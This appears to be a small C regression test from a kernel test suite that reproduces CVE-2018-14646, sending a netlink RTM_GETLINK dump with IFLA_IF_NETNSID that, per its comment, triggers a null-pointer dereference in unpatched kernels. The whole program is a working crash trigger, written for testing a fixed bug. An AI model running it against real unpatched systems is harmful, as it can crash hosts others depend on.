/* SPDX-License-Identifier: BSD-2-Clause */
/* tests/kernel-published/link-netns.c - CVE-2018-14646
 * fix: rtnetlink: give a user socket to get_target_net()
 * expected: KASAN: null-ptr-deref in rtnl_get_net_ns_capable
 * All interfaces of another network namespace. */
#include <linux/if_link.h>
#include <linux/rtnetlink.h>
#include <sys/socket.h>

int main(void)
{
	struct {
		struct nlmsghdr head;
		struct ifinfomsg link;
		struct rtattr attribute;
		int id;
	} message = {
		.head = {
			.nlmsg_len = sizeof(message), .nlmsg_type = RTM_GETLINK,
			.nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP,
		},
		.attribute = { .rta_len = RTA_LENGTH(sizeof(int)), .rta_type = IFLA_IF_NETNSID },
	};
	int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);

	return send(fd, &message, sizeof(message), 0) < 0;
}
